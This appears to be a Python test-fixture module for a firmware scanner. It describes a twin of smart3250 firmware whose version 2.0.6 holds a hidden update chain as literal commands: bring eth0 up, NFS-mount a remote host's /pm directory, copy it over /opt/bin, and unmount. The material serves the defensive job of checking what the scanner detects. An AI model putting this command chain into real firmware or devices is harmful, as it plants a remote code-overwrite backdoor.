"""In: nothing. Out: the versions of the twin's firmware: how each is made, and what is true of it."""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, Final

CENTRAL, RESULTS = "202.114.4.119", "202.114.4.120"
CHAIN: Final = ("firmware.interface-enabled", "firmware.remote-mount", "firmware.overwrites-programs",
                "firmware.runs-remote-file", "firmware.reverse-backdoor")  # fmt: skip
STREAM: Final = ("firmware.hard-coded-peer", "firmware.clear-telemetry")
EVERY: Final = (*CHAIN, *STREAM, "firmware.unverified-update")
STEPS: Final = ("interface-up", "remote-mount", "copy", "unmount")
STATIC: Final = ("-static", "-Os", "-s")


@dataclass(frozen=True)
class Personality:
    """One version. `fetch`: the source of its update function; `eth0_down`: the start-up script takes eth0 down."""

    version: str
    about: str
    fetch: tuple[str, ...] = ()
    network: bool = True
    eth0_down: bool = False
    commands: tuple[str, ...] = ()
    silent: tuple[str, ...] = ()
    against_206: str = "not-fixed"

    @property
    def file(self) -> str:
        """The image's name in the package."""
        return f"smart3250-twin-{self.version}.cramfs"

    @property
    def has_chain(self) -> bool:
        """Whether the hidden function is in it."""
        return bool(self.commands)

    @property
    def fires(self) -> tuple[str, ...]:
        """The rules that must find something."""
        chain = (*CHAIN, "firmware.unverified-update") if self.has_chain else ()
        return (*chain, *(STREAM if self.network else ()))

    @property
    def truth(self) -> Mapping[str, Any]:
        """For tests of the scan, as JSON."""
        peers = [{"host": CENTRAL, "port": 515, "transport": "tcp", "program": "/opt/bin/monitor"},
                 {"host": RESULTS, "port": 511, "transport": "tcp", "program": "/opt/bin/monitor"}]  # fmt: skip
        reached = [{"program": "/opt/bin/monitor", "trigger": "menu", "key": "M, then 3"},
                   {"program": "/opt/bin/update", "trigger": "key", "key": "C"}]  # fmt: skip
        return {
            "version": self.version,
            "about": self.about,
            "peers": peers if self.network else [],
            "chain": {"steps": STEPS, "commands": self.commands, "mounts": f"{CENTRAL}:/pm", "reached": reached}
            if self.has_chain
            else None,
            "eth0_down_at_start": self.eth0_down,
            "rules": {"fire": self.fires, "silent": tuple(rule for rule in EVERY if rule not in self.fires)},
            "compared_with_2.0.6": self.against_206,
        }


_COMMANDS: Final = (
    "ifconfig eth0 up",
    "mount -o nolock -t nfs 202.114.4.119:/pm /mnt",
    "cp -rf /mnt/* /opt/bin",
    "umount /mnt",
)

PERSONALITIES: Final[Mapping[str, Personality]] = {
    each.version: each
    for each in (
        Personality("2.0.6", "the hidden function as found, each step a literal command", ("fetch_literal.c",),
                    commands=_COMMANDS),
    )
}  # fmt: skip
